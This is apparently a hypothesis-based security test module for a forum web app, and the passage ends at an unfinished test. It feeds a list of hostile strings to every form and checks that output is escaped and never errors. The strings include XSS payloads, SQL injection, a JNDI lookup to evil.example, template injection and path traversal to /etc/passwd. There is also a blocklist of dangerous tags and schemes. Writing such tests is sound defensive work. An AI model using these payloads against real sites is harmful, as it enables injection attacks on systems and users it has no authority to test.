"""Hostile input: every form in the forum fed random and adversarial text.

Property-based (hypothesis): a curated list of naughty strings (controls, NUL, bidi
overrides, zero-width and combining characters, every Unicode plane, emoji ZWJ
sequences, NFC-expanding letters, markup and script injection, Markdown link tricks,
SQL, format strings, lengths past each form's limit) mixed with random text is posted
to each form, and the answer must hold these properties:

- never a 5xx;
- accepted: the row holds the text as typed after the forum's normalisation (the
  request layer drops NUL; writing fields go through `forum.text.normalise`, then
  titles, summaries and reasons are trimmed), and the page shows it HTML-escaped;
- refused: 200 with the form, an error summary and the typed text still in its field
  (or the 4xx / flashed message the contract gives for that form), and nothing half
  written (a refused discussion adds no thread, no post, no tag);
- no page ever carries markup that came from a member: no script, iframe, img, svg,
  style, no on* or style attribute, no javascript:/vbscript:/data: link.

Tables are emptied after each test, not between hypothesis examples, so every
example stands alone: unique titles and names, fresh threads and posts, open
reports closed before the next one. `PAYLOADS` counts what was sent, per form;
once the module's tests are done, `payload_summary` checks each form received its
examples and writes the counts to tests/artifacts/hostile_input.txt.
HOSTILE_SCALE=10 multiplies every example count, for a longer search.
"""

import itertools
import os
import re
import xml.etree.ElementTree as ElementTree
from collections import Counter
from datetime import date, timedelta
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote, urlsplit

import pyotp
import pytest
from flask import current_app
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markupsafe import escape
from sqlalchemy import delete, func, select, update
from werkzeug.security import check_password_hash

from forum import text
from forum.domain import (
    alerts,
    labels,
    members,
    reports,
    safety_queue,
    signin,
    threads,
    two_factor,
    verification,
    visibility,
)
from forum.domain.posts import add_reply
from forum.extensions import db
from forum.models import (
    AlertKind,
    Bookmark,
    Category,
    Draft,
    EvidenceLabel,
    ExpertVerification,
    Flag,
    ModerationEvent,
    OutboxMessage,
    Post,
    PostRevision,
    ProfileVisibility,
    Reference,
    Tag,
    Thread,
    User,
    utcnow,
)
from tests.conftest import PASSWORD, Browser, csrf_token
from tests.factories import mailed_link, make_article, make_category, make_discussion, make_user

# -- the payloads --------------------------------------------------------------------

NAUGHTY = [
    "",
    " \t\r\n \u3000\u00a0",                                   # whitespace only
    "\x00",                                                    # NUL alone
    "before\x00after\x00",                                     # NUL inside
    "\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f\x1b",            # C0 controls only
    "tab\there\x0bvt\x0cff\x1bESC\x7fDEL\x85NEL\x9fAPC",       # controls among words
    "line one\r\nline two\rline three\nline four\u2028\u2029",  # every newline there is
    "\u202egnp.exe\u202c photo",                               # right-to-left override
    "\u202dLTR\u202a embed\u202b rle\u2066 isolate\u2067\u2068\u2069 \u200e\u200f",
    "\u200b\u200c\u200d\u2060\ufeff",                          # zero-width only
    "zero\u200bwidth\u200djoiner\ufeffbom",
    "Z\u0351\u0352\u0353\u0354\u0355a\u0301\u0302\u0303\u0304l\u0336g\u0337o\u0338",  # zalgo
    "e\u0301 vs \u00e9, \u212b vs \u00c5, \u2126 vs \u03a9, \ufb01",  # NFC pairs
    "\ufb2c\u0958\U0001d160\u0344" * 8,                        # NFC makes these longer
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d"
    "\U0001f308 \U0001f44d\U0001f3fd \U0001f9d1\U0001f3ff\u200d\U0001f9bd",  # ZWJ emoji
    "\U0001d573\U0001d58a\U0001d591\U0001d591\U0001d594 \U00010348 \U00020b9f "
    "\U000e0041\U000e007f \U0010fffd",                         # astral planes, tag chars
    "\ufffe\uffff\ufdd0\U0001fffe non-characters",
    "\ufffd replacement \ud7ff\ue000 BMP edges",
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "'><iframe src=javascript:alert(1)></iframe>",
    "</textarea><script>alert(1)</script>",
    "</title><style>*{display:none}</style><!--",
    "<a href=\"javascript:alert(1)\" style=\"position:fixed\">click</a>",
    "[click](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [y](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1)) [y](javascript&colon;alert(1)) [z](vbscript:msgbox(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)> ![img](javascript:alert(1)) ![i](https://evil.example/t.png)",
    "[ref]: javascript:alert(1)\n\n[ref] and [x](https://example.org \"t\" onmouseover=x)",
    "`<script>` and ```\n<script>alert(1)</script>\n``` and <!-- hidden -->",
    "&lt;script&gt; &amp;amp; &#x3C;b&#x3E; &#0; &#2; &#xD800; &#1114112; &bogus;",
    "'; DROP TABLE users; --",
    "\" OR 1=1 -- ' OR ''=' \\x27 %27 %00",
    "%s %d %n %x {0} {name!r} {{7*7}} ${7*7} {% if 1 %}x{% endif %} #{7*7}",
    "${jndi:ldap://evil.example/a} ../../../../etc/passwd \\\\server\\share",
    "NEAR(\"a\" \"b\") OR * AND NOT -x \" ^ : col:term",      # search syntax
    "#Fatigue #<b>bold</b> #Tag-With-Dash #caf\u00e9 #a1 ##",
    "Smith J. Lancet 2020. doi:10.1016/S0140-6736(20)30183-5<script> PMID: 12345678",
    "javascript://example.org/%0aalert(1)",
    "https://example.org/\u202e/moc.live",
    "admin@example.org",
    "\"quoted\"@example.org <a@b.c>, b@c.d",
    "\u0130stanbul \u0131 \u00df \u1e9e \u212a",               # case-mapping oddities
    "-1 0 1e9 99999999999999999999 NaN \u0661\u0662 \uff11",
]

# Repeated to reach each form's limit and just past it.
LONG_UNITS = ("x", "\u00e9", "e\u0301", "\ufb2c", "\U0001f469\u200d\U0001f467", "\u200b",
              "<b>", "\r\n", "\x01", " ", "[a](javascript:x) ")
LENGTHS = (4, 5, 9, 10, 30, 31, 40, 41, 60, 61, 80, 81, 150, 151, 200, 201, 254, 255, 500,
           501, 600, 601, 1000, 1001, 2000, 2001, 50_000, 50_001)


def _long(unit: str, length: int) -> str:
    return (unit * (length // len(unit) + 1))[:length]


# Every plane; surrogates cannot be encoded, so test_undecodable_bytes sends those.
CHARS = st.characters(codec="utf-8")
hostile = st.one_of(
    st.sampled_from(NAUGHTY),
    st.text(CHARS, max_size=40),
    st.lists(st.sampled_from(NAUGHTY), min_size=2, max_size=4).map("".join),
    st.tuples(st.text(CHARS, max_size=8), st.sampled_from(NAUGHTY),
              st.text(CHARS, max_size=8)).map("".join),
    st.builds(_long, st.sampled_from(LONG_UNITS), st.sampled_from(LENGTHS)),
)


def overrides(*names: str, strategy=hostile):
    """Hostile values for one of the form's fields (so that the others, valid, let it be
    accepted when it can be), or for several at once."""
    one = st.sampled_from(names).flatmap(lambda name: st.fixed_dictionaries({name: strategy}))
    several = st.dictionaries(st.sampled_from(names), strategy, min_size=2,
                              max_size=len(names))
    return st.one_of(one, one, several) if len(names) > 1 else one


def mostly(*valid):
    """One of `valid` two times in three, else a hostile value (choice fields, whose
    other fields can then be accepted)."""
    return st.tuples(st.sampled_from([*valid, *valid, None]), hostile).map(
        lambda pair: pair[1] if pair[0] is None else pair[0])


# Addresses that email_validator may accept: hostile text around a real-looking shape.
emails = st.one_of(
    hostile,
    st.builds("{}@example.org".format, hostile),
    st.builds("member@{}.example".format, hostile),
    st.builds("{}@{}.org".format, st.text(CHARS, min_size=1, max_size=20),
              st.text(CHARS, min_size=1, max_size=20)),
    # Internationalised addresses, which the validator accepts and normalises.
    st.builds("{}@{}.example".format,
              st.text(st.characters(categories=["L", "M", "N"]), min_size=1, max_size=64),
              st.text(st.characters(categories=["L", "N"]), min_size=1, max_size=60)),
)


PAYLOADS: Counter[str] = Counter()  # sent, per form
REFUSED: Counter[str] = Counter()  # of those, refused with a message
_sending = {"form": ""}


def payload(form: str, n: int = 1) -> None:
    _sending["form"] = form
    PAYLOADS[form] += n


def refused() -> None:
    REFUSED[_sending["form"]] += 1


# Hypothesis examples per test (a test may send more than one form per example).
EXAMPLES = {
    "register": 60, "login": 30, "login ?next": 15, "reset request": 30, "sign-in link": 20,
    "reset": 15, "profile": 40, "profile visibility": 30, "members-only discussion": 30,
    "expert profile": 30, "email change": 25, "password change": 15,
    "reading preferences": 30, "language switch": 20, "verification request": 40,
    "delete account": 10,
    "two-step sign-in": 25, "discussion": 100, "article": 75, "reply": 80, "edit reply": 50,
    "edit opening post": 50, "flag": 45, "report member": 40, "lock/unlock": 40,
    "move/pin/unpin": 30, "hide/restore": 40, "label": 40, "resolve reports": 30,
    "reject held post": 25, "suspend/reinstate": 30, "ban": 20, "admin category": 45,
    "admin label": 45, "admin settings": 25, "admin role": 15, "admin two-step reset": 10,
    "verification decision": 25, "revoke expert": 15, "search": 60, "paths and queries": 100,
    "draft": 40, "bookmark": 40, "admin safety lists": 30, "label citation": 40,
    "mark reviewed": 30, "admin guidelines": 30, "members-only": 30, "alert note": 30,
    "alert escalate/resolve": 30, "note templates": 30,
}


# HOSTILE_SCALE=10 runs ten times as many examples, for a deeper search now and then.
SCALE = float(os.environ.get("HOSTILE_SCALE", "1"))


def hostile_settings(form: str):
    return settings(
        max_examples=max(1, round(EXAMPLES[form] * SCALE)), deadline=None, database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                               HealthCheck.data_too_large, HealthCheck.large_base_example],
    )


@pytest.fixture(scope="module", autouse=True)
def payload_summary():
    """Once this module's tests are done, whichever ran and in whatever order: the
    payloads each form received, written to tests/artifacts/hostile_input.txt (for
    docs/reliability.md). Every form that was fed received all its examples."""
    yield
    if not PAYLOADS:
        return
    lines = [f"{form}: {n} sent, {REFUSED[form]} refused" for form, n in sorted(PAYLOADS.items())]
    lines.append(f"total: {sum(PAYLOADS.values())} sent, {sum(REFUSED.values())} refused, "
                 f"{len(PAYLOADS)} forms")
    artifacts = Path(__file__).parent / "artifacts"
    artifacts.mkdir(exist_ok=True)
    (artifacts / "hostile_input.txt").write_text("\n".join(lines) + "\n", encoding="utf-8")
    print("\n".join(lines))
    short = {form: f"{n} of {round(SCALE * EXAMPLES[form])}" for form, n in PAYLOADS.items()
             if n < 0.95 * SCALE * EXAMPLES.get(form, 0)}
    assert not short, f"forms fed fewer payloads than their examples: {short}"


# -- what the forum is expected to do with text ----------------------------------------

def sent(value: str) -> str:
    """What the app receives: forum.ForumRequest drops NUL from every form field."""
    return value.replace("\x00", "")


def normalised(value: str) -> str:
    """A writing field as stored: forum.text.normalise (NFC, \\n, no controls)."""
    return text.normalise(sent(value))


def trimmed(value: str) -> str:
    """Titles, summaries and disclosures: normalised, then trimmed."""
    return normalised(value).strip()


def label_kept(value: str) -> str:
    """A name or title field as the form holds it (forum.forms.LabelField): normalised,
    without format characters (bidi overrides, zero-width characters)."""
    return text.normalise(text.strip_format(sent(value)))


def one_line(value: str) -> str:
    """A name or title as stored: as the form holds it, trimmed."""
    return label_kept(value).strip()


def as_typed(value: str) -> str:
    """Account, moderation and admin fields: normalised like writing (forum.forms), and
    trimmed by their services."""
    return trimmed(value)


# -- checking pages --------------------------------------------------------------------

DANGEROUS_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg",
                  "math", "style", "base", "video", "audio", "source", "template", "img"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster",
                  "background", "cite"}


def _dangerous_url(url: str) -> bool:
    # Browsers ignore ASCII whitespace and controls inside a scheme.
    squeezed = re.sub(r"[\x00-\x20\x7f]", "", url).lower()
    return squeezed.startswith(("javascript:", "vbscript:", "data:"))


class _MarkupCheck(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        local_img = tag == "img" and re.match(r"/[^/\\]", values.get("src") or "")
        if tag in DANGEROUS_TAGS and not local_img:
            self.problems.append(f"<{tag} {attrs}>")
        if tag == "meta" and (values.get("http-equiv") or "").lower() == "refresh":
            self.problems.append(f"<meta {attrs}>")
        for name, value in attrs:
            scripted = name.startswith("on") or name in ("style", "srcdoc")
            if scripted or (name in URL_ATTRIBUTES and _dangerous_url(value or "")):
                self.problems.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag


def page_of(response) -> str:
    return response.get_data(as_text=True)


# The one script the forum serves itself, in writing pages' head (background drafts).
# Its address carries the file's hash (`?v=`, forum/web/http.py version_static_urls).
OWN_SCRIPT = re.compile(r'<script src="/static/drafts\.js\?v=[0-9a-f]{12}" defer></script>')


def assert_no_injected_markup(page: str) -> None:
    page = OWN_SCRIPT.sub("", page)
    assert "<script" not in page.lower(), "a script element reached the page"
    checker = _MarkupCheck()
    checker.feed(page)
    checker.close()
    assert not checker.problems, f"markup from user input reached the page: {checker.problems}"


def check_page(response, *shown: str) -> str:
    """Not a 5xx, no injected markup, and each of `shown` present HTML-escaped."""
    assert response.status_code < 500, (
        f"{response.status_code} for {response.request.path}: {page_of(response)[:600]}")
    page = page_of(response)
    if response.mimetype == "text/html":
        assert_no_injected_markup(page)
    for value in shown:
        assert str(escape(value)) in page, f"{value!r} is not on the page as typed"
    return page


def check_refused(response, kept: dict[str, str], status: int = 200) -> str:
    """The form again, saying what to fix, with what was typed still in its fields."""
    page = check_page(response)
    refused()
    if response.status_code == 413:  # past MAX_CONTENT_LENGTH: the contract's 4xx
        assert response.request.content_length > current_app.config["MAX_CONTENT_LENGTH"]
        assert "too large" in page
        return page
    checked = (response.status_code == 200 and 'id="writing-check"' in page
               and 'class="error-summary"' not in page)
    if not checked:  # else the writing check (personal information): kept, not refused
        assert response.status_code == status, page[:600]
        assert 'class="error-summary"' in page, "refused without saying why"
    for name, value in kept.items():
        # Text fields come back as they would be stored (forum.forms.ForumForm); number
        # fields exactly as typed.
        assert str(escape(normalised(value))) in page or str(escape(value)) in page, (
            f"the typed {name} was lost: {value!r}")
    return page


def check_flashed_error(browser, response) -> None:
    """Moderation forms answer a refusal with the form again (what was wrong, and the
    text kept), or, where nothing was typed, a redirect and a flashed reason."""
    if response.status_code == 200:
        assert 'class="error-summary"' in check_page(response), "refused without saying why"
        refused()
        return
    if response.status_code == 413:  # two 50,000-character fields can pass the 1 MB cap
        assert "too large" in check_page(response).lower(), "refused without saying why"
        refused()
        return
    assert response.status_code == 302, page_of(response)[:600]
    page = check_page(browser.get(response.headers["Location"]))
    assert "flash-error" in page, "refused without saying why"
    refused()


def send(browser: Browser, path: str, data: dict, **kwargs):
    """POST with a CSRF token from the front page, fetched once per browser."""
    token = getattr(browser, "hostile_token", None)
    if token is None:
        token = browser.hostile_token = csrf_token(page_of(browser.get("/")))
    return browser.client.post(path, data={"csrf_token": token, **data}, **kwargs)


def fresh() -> None:
    """End the test's own transaction, so it reads what the requests committed."""
    db.session.commit()


def count(model, *where) -> int:
    fresh()
    return db.session.scalar(select(func.count()).select_from(model).where(*where))


def counts(*models) -> tuple[int, ...]:
    return tuple(count(model) for model in models)


def thread_id_in(location: str) -> int:
    return int(re.search(r"/t/(\d+)", location).group(1))


def post_id_in(location: str) -> int:
    return int(re.search(r"#p(\d+)", location).group(1))


unique = itertools.count(1)


def signed_in(app, user) -> Browser:
    browser = Browser(app.test_client())
    browser.login(user.username)
    return browser


# -- fixtures ----------------------------------------------------------------------------

@pytest.fixture
def category(app):
    return make_category()


@pytest.fixture
def expert_browser(app, expert):
    return signed_in(app, expert)


@pytest.fixture
def admin_browser(app, admin):
    return signed_in(app, admin)


@pytest.fixture
def thread(category, other_member):
    return make_discussion(other_member, category, title="A thread to write into")


# -- accounts ----------------------------------------------------------------------------

@hostile_settings("register")
@given(fields=st.one_of(overrides("username", "password", "confirm"),
                        overrides("email", strategy=emails)))
def test_register(app, fields):
    payload("register")
    n = next(unique)
    data = {"username": f"newcomer{n}", "email": f"newcomer{n}@example.org",
            "password": "a long enough passphrase", "agree": "y", **fields}
    data.setdefault("confirm", data["password"])
    browser = Browser(app.test_client())
    before = count(User)
    response = browser.submit("/register", data)
    if response.status_code == 302:
        check_page(browser.get(response.headers["Location"]))
        if count(User) == before:  # an address an earlier example took: its owner is told
            return
        user = db.session.scalar(select(User).where(User.id == db.session.scalar(
            select(func.max(User.id)))))
        assert user.username == normalised(data["username"])
        assert check_password_hash(user.password_hash, sent(data["password"]))
        confirmed = browser.submit(mailed_link(user.email), {})
        assert confirmed.status_code == 302
        check_page(browser.get(confirmed.headers["Location"]), user.username)
    else:
        check_refused(response, {"username": sent(data["username"]),
                                 "email": sent(data["email"])})
        assert count(User) == before


@hostile_settings("login")
@given(fields=overrides("username", "password"))
def test_login(app, member, fields):
    payload("login")
    data = {"username": member.username, "password": PASSWORD, **fields}
    browser = Browser(app.test_client())
    response = browser.submit("/login", data)
    if response.status_code != 302:
        check_refused(response, {"username": sent(data["username"])})


@hostile_settings("login ?next")
@given(target=hostile)
def test_login_goes_only_to_a_path_on_this_site(app, member, target):
    payload("login ?next")
    browser = Browser(app.test_client())
    response = browser.client.post(
        "/login", query_string={"next": target},
        data={"csrf_token": csrf_token(page_of(browser.get("/login"))),
              "username": member.username, "password": PASSWORD})
    assert response.status_code == 302
    location = response.headers["Location"]
    parts = urlsplit(location)
    assert not parts.scheme and not parts.netloc, location
    assert location.startswith("/") and not location.startswith(("//", "/\\")), location


@hostile_settings("reset request")
@given(email=emails)
def test_reset_request(app, member, email):
    payload("reset request")
    browser = Browser(app.test_client())
    before = count(OutboxMessage)
    response = browser.submit("/reset", {"email": email})
    if response.status_code == 302:
        check_page(browser.get(response.headers["Location"]))
        assert count(OutboxMessage) <= before + 1
    else:
        check_refused(response, {"email": sent(email)})
        assert count(OutboxMessage) == before


@hostile_settings("sign-in link")
@given(email=emails)
def test_sign_in_link_request(app, member, email):
    payload("sign-in link")
    browser = Browser(app.test_client())
    before = count(OutboxMessage)
    response = browser.submit("/login", {"username": email}, action="/login/link")
    if response.status_code == 302:
        check_page(browser.get(response.headers["Location"]))
        assert count(OutboxMessage) <= before + 1
    else:  # only its CSRF token is checked: any name gets the same answer
        raise AssertionError(f"{response.status_code}: {page_of(response)[:300]}")


@hostile_settings("reset")
@given(fields=overrides("password", "confirm"))
def test_reset_password(app, member, fields):
    payload("reset")
    signin.request_password_reset(member.email)  # a fresh link, as the old one may be used
    mail = db.session.scalar(select(OutboxMessage).order_by(OutboxMessage.id.desc()))
    link = re.search(r"https?://[^/\s]+(/reset/\S+)", mail.body).group(1)
    data = {"password": "a brand new passphrase", **fields}
    data.setdefault("confirm", data["password"])
    old_hash = member.password_hash
    browser = Browser(app.test_client())
    response = browser.submit(link, data)
    fresh()
    if response.status_code == 302 and response.headers["Location"].startswith("/login"):
        assert check_password_hash(db.session.get(User, member.id).password_hash,
                                   sent(data["password"]))
    else:
        check_refused(response, {})  # passwords are never sent back
        assert db.session.get(User, member.id).password_hash == old_hash


@hostile_settings("profile")
@given(fields=overrides("display_name", "bio"))
def test_profile_settings(member_browser, member, fields):
    payload("profile")
    fresh()
    before = (member.display_name, member.bio)
    response = send(member_browser, "/settings", fields)
    fresh()
    if response.status_code == 302:
        expected = {name: _profile_value(name, value) for name, value in fields.items()}
        for name, value in expected.items():
            assert getattr(member, name) == value
        check_page(member_browser.get(f"/u/{member.username}"),
                   *[value for value in expected.values() if value])
    else:
        check_refused(response, _profile_kept(fields))
        assert (member.display_name, member.bio) == before


def _profile_value(name: str, value: str) -> str:
    return one_line(value) if name == "display_name" else as_typed(value)


def _profile_kept(fields: dict[str, str]) -> dict[str, str]:
    return {name: label_kept(value) if name == "display_name" else sent(value)
            for name, value in fields.items()}


@hostile_settings("profile visibility")
@given(choice=mostly(*ProfileVisibility))
def test_profile_visibility_settings(member_browser, member, choice):
    payload("profile visibility")
    fresh()
    before = member.profile_visibility
    response = send(member_browser, "/settings",
                    {"display_name": "", "bio": "Kept words", "profile_visibility": choice})
    fresh()
    if response.status_code == 302:
        assert choice in set(ProfileVisibility) or not choice.strip()
        assert member.profile_visibility == (choice if choice in set(ProfileVisibility)
                                             else before)
    else:
        check_refused(response, {"bio": "Kept words"})
        assert member.profile_visibility == before


@hostile_settings("members-only discussion")
@given(value=hostile)
def test_members_only_checkbox(member_browser, category, value):
    payload("members-only discussion")
    response = send(member_browser, f"/c/{category.slug}/new", {
        "title": f"Hostile members-only {next(unique)}", "body": "Plain words.", "tags": "",
        "members_only": value})
    assert response.status_code == 302
    thread = db.session.get(Thread, thread_id_in(response.headers["Location"]))
    # A checkbox is on when sent with any value but the ones that mean off, once the
    # request has dropped NUL characters (forum/web/http.py): "\x00" arrives as "".
    assert thread.members_only is (value.replace("\x00", "") not in ("", "false", "False"))


@hostile_settings("expert profile")
@given(fields=overrides("display_name", "bio", "credentials", "affiliation", "conflicts"))
def test_expert_profile_settings(expert_browser, expert, fields):
    payload("expert profile")
    checked = (expert.credentials, expert.affiliation)
    response = send(expert_browser, "/settings", fields)
    fresh()
    # Credentials and affiliation are what an admin checked: they change only through a
    # new verification request, never from the profile form.
    assert (expert.credentials, expert.affiliation) == checked
    free = {name: value for name, value in fields.items()
            if name in ("display_name", "bio", "conflicts")}
    if response.status_code == 302:
        expected = {name: _profile_value(name, value) for name, value in free.items()}
        for name, value in expected.items():
            assert getattr(expert, name) == value
        check_page(expert_browser.get(f"/u/{expert.username}"),
                   *[value for value in expected.values() if value])
    else:
        check_refused(response, _profile_kept(free))


@hostile_settings("email change")
@given(fields=st.one_of(overrides("current_password"),
                        overrides("new_email", strategy=emails)))
def test_email_change(member_browser, member, fields):
    payload("email change")
    data = {"new_email": "somewhere@example.org", "current_password": PASSWORD, **fields}
    before = count(OutboxMessage)
    response = send(member_browser, "/settings/email", data)
    if response.status_code == 302:
        assert count(OutboxMessage) == before + 1
        check_page(member_browser.get(response.headers["Location"]), normalised(data["new_email"]))
    else:
        check_refused(response, {"new_email": sent(data["new_email"])})
        assert count(OutboxMessage) == before


@pytest.fixture
def password_now():
    return {"password": PASSWORD}


@hostile_settings("password change")
@given(fields=overrides("current_password", "new_password", "confirm"))
def test_password_change(member_browser, member, password_now, fields):
    payload("password change")
    data = {"current_password": password_now["password"], "new_password": "another passphrase",
            **fields}
    data.setdefault("confirm", data["new_password"])
    fresh()
    old_hash = member.password_hash
    response = send(member_browser, "/settings/password", data)
    fresh()
    if response.status_code == 302:
        password_now["password"] = sent(data["new_password"])
        assert check_password_hash(member.password_hash, password_now["password"])
    else:
        check_refused(response, {})
        assert member.password_hash == old_hash


@hostile_settings("reading preferences")
@given(fields=overrides("text_size", "high_contrast", "energy_saver", "language", "timezone"),
       signed=st.booleans())
def test_reading_preferences(app, member_browser, fields, signed):
    payload("reading preferences")
    browser = member_browser if signed else Browser(app.test_client())
    data = {"text_size": "large", **fields}
    response = send(browser, "/settings/preferences", data)
    if response.status_code == 302:
        assert sent(data["text_size"]) in ("normal", "large", "largest")
        check_page(browser.get(response.headers["Location"]))
    else:
        check_refused(response, {})


@hostile_settings("language switch")
@given(fields=overrides("language", "next"), signed=st.booleans())
def test_language_switch(app, member_browser, fields, signed):
    payload("language switch")
    browser = member_browser if signed else Browser(app.test_client())
    response = send(browser, "/settings/language", {"language": "es", "next": "/", **fields})
    if response.status_code == 413:
        check_page(response)
    elif sent(fields.get("language", "es")) in ("en", "es"):
        assert response.status_code == 302, page_of(response)[:600]
        check_page(browser.get(response.headers["Location"]))
    else:
        check_flashed_error(browser, response)


VERIFICATION = {"credentials": "Consultant neurologist, MD", "affiliation": "City Hospital",
                "register_name": "GMC", "register_number": "1234567",
                "evidence_url": "https://example.org/register/1234567"}


@hostile_settings("verification request")
@given(fields=overrides(*VERIFICATION))
def test_verification_request(member_browser, member, fields):
    payload("verification request")
    data = {**VERIFICATION, **fields}
    before = count(ExpertVerification)
    response = send(member_browser, "/settings/verification", data)
    if response.status_code == 302:
        request = verification.pending_verification(member)
        for name, value in data.items():
            assert getattr(request, name) == as_typed(value)
        check_page(member_browser.get("/settings/verification"),
                   *[as_typed(value) for value in data.values()])
    else:
        check_refused(response, {name: sent(value) for name, value in data.items()})
        assert count(ExpertVerification) == before


def test_an_evidence_link_is_never_a_script_url(member_browser, admin_browser):
    """The admin queue prints the evidence link as a link: only http(s) gets in."""
    response = send(member_browser, "/settings/verification", {
        **VERIFICATION, "evidence_url": "javascript://example.org/%0aalert(document.domain)"})
    check_refused(response, {"evidence_url": "javascript://example.org/%0aalert(document.domain)"})
    assert_no_injected_markup(page_of(admin_browser.get("/admin/verifications")))


@hostile_settings("delete account")
@given(password=hostile, posts=mostly("keep", "delete"))
def test_delete_account_refusals(member_browser, member, password, posts):
    payload("delete account")
    response = send(member_browser, "/settings/delete", {"password": password, "posts": posts})
    check_refused(response, {})
    assert count(User, User.id == member.id, User.deleted_at.is_(None)) == 1


def _two_step_on(user, recovery_codes: list[str]) -> None:
    """Two-step sign-in on for `user`, with unused recovery codes (turned off and on
    again when they run out)."""
    if user.has_two_factor and recovery_codes:
        return
    if user.has_two_factor:
        two_factor.turn_off(user)
        db.session.commit()
    secret = two_factor.new_secret()
    recovery_codes[:] = two_factor.enable(user, secret, pyotp.TOTP(secret).now(), PASSWORD)


@pytest.fixture
def recovery_codes():
    return []


@hostile_settings("two-step sign-in")
@given(code=hostile, password=mostly(PASSWORD),
       form=st.sampled_from(["enable", "sign-in code", "disable", "recovery codes"]))
def test_two_step_sign_in(app, member, other_member, recovery_codes, code, password, form):
    """Codes and passwords that cannot be right, on every two-step form."""
    payload("two-step sign-in")
    fresh()
    if form == "enable":
        user, browser = member, signed_in(app, member)
        browser.get("/settings/two-factor")  # the set-up secret waits in the session
        response = send(browser, "/settings/two-factor/enable",
                        {"code": code, "password": password})
    else:
        user = other_member
        _two_step_on(user, recovery_codes)
        browser = Browser(app.test_client())
        first = browser.submit("/login", {"username": user.username, "password": PASSWORD})
        assert first.headers["Location"].startswith("/login/code")
        if form == "sign-in code":
            response = browser.submit("/login/code", {"code": code})
        else:
            path = ("/settings/two-factor/disable" if form == "disable"
                    else "/settings/two-factor/recovery-codes")
            # Signed in with a recovery code, then the forms that need password and code.
            signed = browser.submit("/login/code", {"code": recovery_codes.pop()})
            assert signed.status_code == 302
            response = send(browser, path, {"code": code, "password": password})
    check_refused(response, {"code": sent(code)})
    fresh()
    assert user.has_two_factor == (form != "enable")


# -- writing -------------------------------------------------------------------------------

@hostile_settings("discussion")
@given(fields=overrides("title", "body", "tags"), preview=st.booleans())
def test_start_a_discussion(member_browser, category, fields, preview):
    payload("discussion")
    data = {"title": f"Hostile discussion {next(unique)}", "body": "Plain words.", "tags": "",
            **fields}
    if preview:
        data["preview"] = "Preview"
    before = counts(Thread, Post, Tag)
    response = send(member_browser, f"/c/{category.slug}/new", data)
    if response.status_code == 302:
        assert not preview
        thread = db.session.get(Thread, thread_id_in(response.headers["Location"]))
        opening = threads.opening_post(thread)
        assert thread.title == one_line(data["title"])
        assert opening.body_source == normalised(data["body"])
        assert opening.body_html == text.render(opening.body_source)
        assert sorted(tag.name for tag in thread.tags) == sorted(
            threads.tags_for(thread.title, normalised(data["tags"])))
        page = check_page(member_browser.get(response.headers["Location"]), thread.title)
        assert opening.body_html in page
        assert counts(Thread, Post)[:2] == (before[0] + 1, before[1] + 1)
    else:
        kept = {"title": one_line(data["title"]), "body": normalised(data["body"]),
                "tags": normalised(data["tags"])}
        if preview and response.status_code == 200 and "error-summary" not in page_of(response):
            page = check_page(response, *kept.values())
            assert text.render(kept["body"]) in page
        else:
            check_refused(response, kept)
        assert counts(Thread, Post, Tag) == before


REFERENCES = "Glenn JD, Mowry EM. J Interferon Cytokine Res. 2016. doi:10.1089/jir.2015.0177"


@hostile_settings("article")
@given(fields=overrides("title", "summary", "body", "tags", "references", "disclosure"),
       preview=st.booleans())
def test_publish_an_article(app, expert_browser, category, fields, preview):
    payload("article")
    data = {"title": f"Hostile article {next(unique)}", "summary": "A summary of the findings.",
            "body": "Findings.", "tags": "", "references": REFERENCES,
            "disclosure": "None to declare.", **fields}
    if preview:
        data["preview"] = "Preview"
    before = counts(Thread, Post, Tag, Reference)
    response = send(expert_browser, "/articles/new", data)
    if response.status_code == 302:
        thread = db.session.get(Thread, thread_id_in(response.headers["Location"]))
        assert thread.title == one_line(data["title"])
        assert thread.summary == trimmed(data["summary"])
        assert thread.disclosure == trimmed(data["disclosure"])
        citations = threads.parse_references(normalised(data["references"]))
        assert [(r.citation, r.doi, r.pmid) for r in thread.references] == [
            (c.citation, c.doi, c.pmid) for c in citations]
        shown = [thread.title, thread.summary, thread.disclosure, *(c.citation for c in citations)]
        page = check_page(expert_browser.get(response.headers["Location"]),
                          *[value for value in shown if value])
        assert threads.opening_post(thread).body_html in page
        feed = expert_browser.get("/feed.atom")
        assert feed.status_code == 200
        ElementTree.fromstring(feed.get_data())  # noqa: S314 - our own feed, parsed to check it
    else:
        kept = {"title": one_line(data["title"]), "summary": trimmed(data["summary"]),
                "body": normalised(data["body"]), "tags": normalised(data["tags"]),
                "references": normalised(data["references"]),
                "disclosure": trimmed(data["disclosure"])}
        if preview and response.status_code == 200 and "error-summary" not in page_of(response):
            check_page(response, *kept.values())
        else:
            check_refused(response, kept)
        assert counts(Thread, Post, Tag, Reference) == before


@hostile_settings("reply")
@given(body=hostile, preview=st.booleans())
def test_reply(member_browser, thread, body, preview):
    payload("reply")
    data = {"body": body, **({"preview": "Preview"} if preview else {})}
    before = count(Post)
    response = send(member_browser, f"/t/{thread.id}/reply", data)
    if response.status_code == 302:
        post = db.session.get(Post, post_id_in(response.headers["Location"]))
        assert post.body_source == normalised(body)
        page = check_page(member_browser.get(response.headers["Location"]))
        assert post.body_html in page
        assert count(Post) == before + 1
    else:
        if preview and response.status_code == 200 and "error-summary" not in page_of(response):
            assert text.render(normalised(body)) in check_page(response, normalised(body))
        else:
            check_refused(response, {"body": normalised(body)})
        assert count(Post) == before


@hostile_settings("edit reply")
